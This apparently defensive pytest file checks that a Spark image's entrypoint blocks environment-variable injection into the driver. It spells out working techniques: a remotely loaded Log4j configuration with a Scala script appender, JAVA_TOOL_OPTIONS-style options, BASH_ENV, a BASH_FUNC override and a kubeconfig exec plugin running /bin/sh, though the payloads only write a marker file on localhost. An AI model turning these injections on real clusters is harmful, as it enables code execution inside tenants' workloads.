"""A tenant whose variables reach the Spark driver: what the image lets Java, Log4j and Kubernetes' client make of them.

The operator refuses such names. Here a variable came past it, and the entrypoint alone stands in its way. The control
is the same program with Spark's own start script.
"""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.attackers.outcome import Gained, Outcome, Refused
from tests.support.httpservers import Quiet, serving
from tests.support.sparkimage import SparkImage

# The names that the entrypoint leaves out are in contract/spark/test_entrypoint.py; here Java reads them.
pytestmark = pytest.mark.long
# Log4j runs the script of a routing appender when it starts.
# Source: logging.apache.org/log4j/2.x/manual/appenders/delegating.html, "RoutingAppender"
CONFIGURATION = """<Configuration><Appenders><Routing name="r">
<Script language="scala"><![CDATA[java.nio.file.Files.writeString(java.nio.file.Path.of("%s"), "ran")]]></Script>
<Routes pattern="x"><Route><Null name="n"/></Route></Routes></Routing></Appenders>
<Loggers><Root level="error"><AppenderRef ref="r"/></Root></Loggers></Configuration>
"""
LOCAL = ("driver", "--local", "1")
PROGRAM = "print('the program ran')"
SESSION = "from pyspark.sql import SparkSession\nSparkSession.builder.getOrCreate()"
# Of the launcher of Java, of each JVM, and of Spark's scripts.
OPTIONS = ("JDK_JAVA_OPTIONS", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "SPARK_LAUNCHER_OPTS", "SPARK_SUBMIT_OPTS")
POD = {"POD_NAME": "orders-b1-x", "POD_IP": "127.0.0.1", "POD_NAMESPACE": "shop"}


@pytest.fixture
def image(tmp_path: Path) -> SparkImage:
    return SparkImage(tmp_path / "image")


@pytest.fixture
def loot(tmp_path: Path) -> Path:
    """A file that only the attacker's code writes."""
    return tmp_path / "loot"


class WebServer(ThreadingHTTPServer):
    """Serves one document of the attacker, and counts its readers."""

    def __init__(self, document: str) -> None:
        self.readers: list[str] = []
        server = self

        class Handler(Quiet, BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.readers.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(document.encode())

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def web(loot: Path) -> Iterator[WebServer]:
    with serving(WebServer(CONFIGURATION % loot)) as server:
        yield server


def program(image: SparkImage, text: str) -> str:
    """A program of the image."""
    file = image.folder / "program.py"
    file.write_text(text)
    return str(file)


def log_configuration(image: SparkImage, web: WebServer, loot: Path, *, entrypoint: bool) -> Outcome:
    """Name a log configuration with a script, on a web server."""
    url = f"http://127.0.0.1:{web.server_port}/log4j2.xml"
    env = {
        "LOG4J_CONFIGURATION_FILE": url,
        "LOG4J_CONFIGURATION_ALLOWED_PROTOCOLS": "http",
        "LOG4J_SCRIPT_ENABLE_LANGUAGES": "scala",
    }
    file = program(image, PROGRAM)
    ended = (
        image.run(*LOCAL, file, env=env) if entrypoint else image.run("submit", "--master", "local[1]", file, env=env)
    )
    assert "the program ran" in ended.stdout, ended.stdout
    if loot.exists():
        return Gained("code of a web server in the driver's JVM")
    if web.readers:
        return Gained(f"a request of the driver for {web.readers[0]}")
    return Refused(f"the entrypoint: {ended.stdout.splitlines()[0]}")


def test_no_variable_names_the_log_configuration(image: SparkImage, web: WebServer, loot: Path) -> None:
    refused = log_configuration(image, web, loot, entrypoint=True)
    assert isinstance(refused, Refused), refused
    assert "LOG4J_CONFIGURATION_FILE" in refused.control and "LOG4J_SCRIPT_ENABLE_LANGUAGES" in refused.control
    assert isinstance(log_configuration(image, web, loot, entrypoint=False), Gained)


def start_options(image: SparkImage, folder: Path, *, entrypoint: bool) -> Outcome:
    """Name options and scripts by variables of bash, Java and Spark's scripts: each leaves a file."""
    folder.mkdir()
    script = folder / "script"
    script.write_text(f"echo ran >{folder}/BASH_ENV\n")
    env = {name: f"-Xlog:gc:file={folder}/{name}" for name in OPTIONS} | {
        "BASH_ENV": str(script),
        "BASH_FUNC_java%%": f'() {{ echo ran >{folder}/BASH_FUNC_java; command java "$@"; }}',
    }
    file = program(image, PROGRAM)
    ended = (
        image.run(*LOCAL, file, env=env) if entrypoint else image.run("submit", "--master", "local[1]", file, env=env)
    )
    assert "the program ran" in ended.stdout, ended.stdout
    script.unlink()
    if left := sorted({file.name.partition(".")[0] for file in folder.iterdir()}):  # Java keeps older files
        return Gained(" ".join(left))
    return Refused(f"the entrypoint: {ended.stdout.splitlines()[0]}")


def test_no_variable_gives_options_or_scripts(image: SparkImage, tmp_path: Path) -> None:
    refused = start_options(image, tmp_path / "with", entrypoint=True)
    assert isinstance(refused, Refused), refused
    gained = start_options(image, tmp_path / "without", entrypoint=False)
    assert gained == Gained(" ".join(sorted([*OPTIONS, "BASH_ENV", "BASH_FUNC_java"])))


def kubeconfig(image: SparkImage, loot: Path, *, entrypoint: bool) -> Outcome:
    """Name a configuration of Kubernetes' client whose user is signed in by a program."""
    sign_in = {
        "apiVersion": "client.authentication.k8s.io/v1",
        "command": "/bin/sh",
        "args": ["-c", f"echo ran >{loot}"],
        "interactiveMode": "Never",
    }
    content = {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "c",
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
        "users": [{"name": "u", "user": {"exec": sign_in}}],
    }
    file = image.folder / "kubeconfig"
    file.write_text(json.dumps(content))
    env = POD | {"KUBECONFIG": str(file)}
    script = program(image, SESSION)
    if entrypoint:
        ended = image.run("driver", script, env=env)
    else:
        ended = image.run(
            "submit", "--master", "k8s://https://kubernetes.default.svc", "--deploy-mode", "client", script, env=env
        )
    assert ended.returncode != 0, "there is no cluster here"
    return Gained("a program in the driver's pod") if loot.exists() else Refused(f"the entrypoint: {ended.stdout}")


def test_no_kubeconfig_starts_a_program_in_a_driver_with_executors(image: SparkImage, loot: Path) -> None:
    refused = kubeconfig(image, loot, entrypoint=True)
    assert isinstance(refused, Refused), refused
    assert "ignored: KUBECONFIG" in refused.control
    assert "KubernetesClient" in refused.control, "the client was made"
    assert isinstance(kubeconfig(image, loot, entrypoint=False), Gained)
